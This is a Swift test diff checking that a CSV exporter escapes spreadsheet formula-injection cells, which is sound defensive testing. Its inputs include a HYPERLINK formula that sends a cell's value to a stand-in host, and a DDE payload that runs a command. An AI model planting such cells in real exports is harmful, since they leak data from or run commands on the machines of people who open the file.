@@ -11,6 +11,28 @@ import Testing
         #expect(broken.csv() == "nip,name\r\n1,\"Siti\r\nAminah\"\r\n2,\"Budi\nSantoso\"\r\n3,\"Ani\rWati\"\r\n")
     }
 
+    /// OWASP's list of cells a spreadsheet runs as formulas, each as the CSV writes it.
+    @Test(arguments: [
+        ("=HYPERLINK(\"http://x/?\"&A2,\"Klik\")", "\"'=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"Klik\"\")\""),
+        ("+62 811", "'+62 811"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "\"'\r=1+1\""),
+        ("-", "'-"),
+        ("-1.5", "-1.5"),
+        ("-12,5", "\"-12,5\""),
+        ("-7%", "-7%"),
+        ("Andi", "Andi"),
+        ("", ""),
+        ("a=b", "a=b"),
+    ])
+    func aFormulaIsWrittenAsText(cell: String, written: String) {
+        #expect(Table.csvField(cell, separator: ",") == written)
+        #expect(Table(columns: ["name"], rows: [[cell]]).csv() == "name\r\n\(written)\r\n")
+        #expect(Table(columns: ["name"], rows: [[cell]]).json().contains("'") == cell.contains("'"), "JSON keeps the value as it is")
+    }
+
     @Test func textAlignsColumns() {
         #expect(table.text() == """
             nip                 name
